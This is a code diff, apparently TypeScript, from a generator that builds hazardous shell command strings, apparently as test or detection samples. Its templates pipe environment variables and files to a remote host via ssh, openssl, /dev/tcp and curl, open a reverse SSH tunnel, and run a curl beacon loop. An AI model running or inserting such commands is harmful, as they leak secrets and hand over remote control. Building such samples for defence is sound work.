@@ -48,7 +48,7 @@ function write(path: string, hazard: Hazard): string {
 }
 
 function send(
-  { host, port, protocol, sends, path }: Destination,
+  { host, port, protocol, sends, asks, path }: Destination,
   hazard: Hazard,
   data: string | undefined,
 ): string {
@@ -56,20 +56,22 @@ function send(
   if (protocol === 'ssh')
     return hazard === 'remote-control'
       ? `ssh -p ${port} -N -R 8022:127.0.0.1:22 ${quote(host)}`
-      : `${read(data)} | ssh -p ${port} ${quote(host)} 'cat > copy'`;
+      : `${readsData(data)} | ssh -p ${port} ${quote(host)} 'cat > copy'`;
   const standard = { https: 443, http: 80 }[protocol];
   if (standard === undefined)
     return protocol === 'websocket' || protocol === 'tls'
-      ? `${read(data)} | openssl s_client -quiet -connect ${quote(`${shown}:${port}`)}`
-      : `${read(data)} > /dev/${protocol === 'udp' ? 'udp' : 'tcp'}/${quote(host)}/${port}`;
+      ? `${readsData(data)} | openssl s_client -quiet -connect ${quote(`${shown}:${port}`)}`
+      : `${readsData(data)} > /dev/${protocol === 'udp' ? 'udp' : 'tcp'}/${quote(host)}/${port}`;
   const address = `${protocol}://${shown}${port === standard ? '' : `:${port}`}${path.startsWith('/') ? path : `/${path}`}`;
-  if (hazard === 'remote-control') return `while sleep 60; do curl -s ${quote(address)}; done`;
+  const ask = `curl -s${asks === undefined ? '' : asks === 'HEAD' ? 'I' : ` -X ${asks}`}`;
+  if (hazard === 'remote-control') return `while sleep 60; do ${ask} ${quote(address)}; done`;
   if (sends !== undefined)
-    return `${read(data)} | curl -s${sends === 'POST' ? '' : ` -X ${sends}`} --data-binary @- ${quote(address)}`;
-  return `curl -s -G --data-urlencode "q=$(${read(data)} | head -c 1000)" ${quote(address)}`;
+    return `${readsData(data)} | curl -s${sends === 'POST' ? '' : ` -X ${sends}`} --data-binary @- ${quote(address)}`;
+  return `${ask} -G --data-urlencode "q=$(${readsData(data)} | tr -d '\\0' | head -c 1000)" ${quote(address)}`;
 }
 
-function read(data: string | undefined): string {
+/** Shell words that print what is known: `data:workspace`, `env:NAME`, `file:PATH`. */
+export function readsData(data: string | undefined): string {
   if (data?.startsWith('env:')) return `printenv ${quote(data.slice(4))}`;
   if (data?.startsWith('file:')) {
     const path = data.slice(5);
